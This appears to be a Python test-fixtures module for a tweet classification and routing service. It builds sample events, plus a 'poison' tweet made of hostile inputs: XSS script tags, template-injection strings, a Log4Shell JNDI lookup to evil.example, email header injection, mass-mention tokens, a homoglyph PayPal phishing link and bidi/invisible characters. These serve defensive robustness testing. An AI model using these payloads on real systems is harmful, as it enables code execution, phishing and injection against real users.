"""Builders of valid events for tests, so each test states only what matters to it; and of
poison, the input no stage may choke on."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime

from switchboard.shared import topics
from switchboard.shared.events import (
    Author,
    Classification,
    ClassifiedTweet,
    RawTweet,
    RouteDecision,
    RoutedTweet,
    Trace,
    Tweet,
)
from switchboard.shared.labels import Department, Urgency

# Tweet text written to break whatever shows it: markup, template syntax, header injection, chat
# mentions, a 10 kB link, a look-alike domain, bidi overrides, invisible characters, wiki markup.
LONG_URL = "https://evil.example/" + "a" * 10_000
HOSTILE = "\n".join([
    "<script>alert(1)</script> <img src=x onerror=alert(2)>",
    "{{ 7*7 }} {% raw %}{{ config }}{% endraw %} ${jndi:ldap://evil.example/a} {!Lead.Name}",
    "\r\nBcc: victim@evil.example\r\nX-Injected: yes",
    "@channel @here @everyone <!channel> <!here> <@U123ABC> @\u200bhere",
    LONG_URL,
    "log in at https://p\u0430ypal.com/login",  # the a is Cyrillic
    "\u202egnp.exe\u202c zero\u200bwidth\u2060joiner tag\U000e0041 "
    "family \U0001f468\u200d\U0001f469",
    "*bold* [link](https://evil.example) h1. title [~accountid:123] {color:red}x{color}",
])  # fmt: skip
INVISIBLE = ("\u202e", "\u202c", "\u200b", "\u2060", "\U000e0041", "\r")


def a_tweet(**fields: object) -> Tweet:
    values: dict[str, object] = dict(
        id="5",
        conversation_id="4",
        text="hello",
        source="replay",
        url="https://x.com/ana/status/5",
        created_at=datetime(2026, 11, 20, tzinfo=UTC),
        author=Author(id="1", username="ana"),
        addressed_handles=["@SkylarkDeals"],
    )
    values.update(fields)
    return Tweet(**values)


def a_raw_tweet(**fields: object) -> RawTweet:
    return RawTweet(tweet=a_tweet(**fields), trace=Trace(ingested_at=datetime.now(UTC)))


def a_classified_tweet(
    department: str,
    confidence: float,
    urgency: str = "normal",
    *,
    lang: str | None = "en",
    language_supported: bool = True,
    **fields: object,
) -> ClassifiedTweet:
    """The model is ``confidence`` sure of ``department``; the rest shares what is left."""
    scores = {d: (1 - confidence) / (len(Department) - 1) for d in Department}
    scores[Department(department)] = confidence
    return ClassifiedTweet(
        tweet=a_tweet(**fields),
        classification=Classification(
            department=department,
            urgency=urgency,
            confidence=confidence,
            urgency_confidence=0.9,
            department_scores=scores,
            urgency_scores={u: 0.25 for u in Urgency},
            model_version="t",
            lang=lang,
            language_supported=language_supported,
        ),
        trace=Trace(ingested_at=datetime.now(UTC), classified_at=datetime.now(UTC)),
    )


def a_routed_tweet(
    department: str = "customer_service",
    urgency: str = "high",
    confidence: float = 0.9,
    **fields: object,
) -> RoutedTweet:
    """A tweet as route publishes it to its department; ``fields`` go to the tweet."""
    return routed_from(a_classified_tweet(department, confidence, urgency, **fields))


def routed_from(event: ClassifiedTweet, destination: str = "department") -> RoutedTweet:
    """``event`` as route publishes it with the default policy (department, or triage)."""
    c = event.classification
    topic = topics.department_topic(c.department) if destination == "department" else topics.TRIAGE
    return RoutedTweet(
        tweet=event.tweet,
        classification=c,
        route=RouteDecision(
            destination=destination,
            department=c.department,
            topic=topic,
            escalated=c.urgency is Urgency.CRITICAL,
            reasons=["test"],
            confidence_threshold=0.45,
            rules_version="test",
        ),
        trace=event.trace.model_copy(update={"routed_at": datetime.now(UTC)}),
    )


@dataclass(frozen=True)
class Poison:
    """One kind of bad input (``case``): its bytes (None: a tombstone), and the reason its
    dead letter must give."""

    case: str
    value: bytes | None
    reason: str
